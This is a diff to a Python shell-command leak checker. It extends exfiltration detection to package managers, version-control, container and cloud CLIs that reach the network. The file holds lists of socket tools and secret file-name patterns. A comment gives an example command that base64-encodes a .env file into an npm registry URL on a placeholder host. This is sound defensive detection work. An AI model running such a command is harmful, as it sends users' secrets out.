@@ -36,6 +36,10 @@ _SECRET_NAME = lazy(r"(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|PASS|PAT|CREDENTIALS?|
 _VAR_REF = lazy(f"[{VAR}{QVAR}]" + r"[#!]?([A-Za-z_]\w*)")
 _SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl", "cryptcat", "pwncat"})
 _NET_TOOLS = frozenset({"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute", "whois", "mtr"})
+NET_CAPABLE = frozenset({"npm", "npx", "pnpm", "pnpx", "yarn", "bun", "bunx", "cnpm", "pip", "pip3", "uv", "uvx", "pipx",
+                         "poetry", "pdm", "conda", "mamba", "cargo", "gem", "bundle", "go", "composer", "mvn", "gradle",
+                         "dotnet", "nuget", "brew", "apt", "apt-get", "git", "hg", "svn", "docker", "podman", "kubectl",
+                         "helm", "terraform", "deno", "wrangler", "vercel", "netlify", "heroku", "fly", "flyctl"})
 _CLOUD_CLIS = frozenset({"gh", "aws", "gsutil", "rclone", "s3cmd", "az", "gcloud"})
 # commands that print secrets: (name, predicate over args)
 _GIT_SECRET_NAME = lazy(r"(?:^|/)(?:\.env(?:\.(?!example\Z|sample\Z|template\Z|dist\Z|defaults\Z)[\w.-]+)?|secrets?|credentials?|creds|private|keys?|id_\w+|[\w.-]+\.(?:pem|key|p12|pfx|kdbx))/?\Z", re.I)
@@ -149,6 +153,12 @@ class LeakChecks:
                     self.add(*EXFILTRATION)
             if u.name in _SOCKETS and any(op in ("<", "<>") and self.path(t, env) in env.tainted for op, t in redirects):
                 self.add(*EXFILTRATION)
+        elif u.name in NET_CAPABLE or any(_HOST.search(a) for a in u.args):
+            # any program that can reach the network (package managers, VCS, containers) or is handed a URL:
+            # secret file contents in its own arguments leave with it (npm view --registry http://H/$(base64 .env)/)
+            if any("@secret" in sub_traits.get(id(w), ()) for w in u.words if w is not None):
+                self.add(*EXFILTRATION)
+            cmd.sends = True  # and what a pipe feeds it (cat .env | npm ...)
         if u.name in ("cat", "tac", "head", "tail", "xxd", "base64", "od") and env.tainted and any(
                 _holds(self.path(a, env), env.tainted) for a in u.args if not a.startswith("-")):
             cmd.secret = True
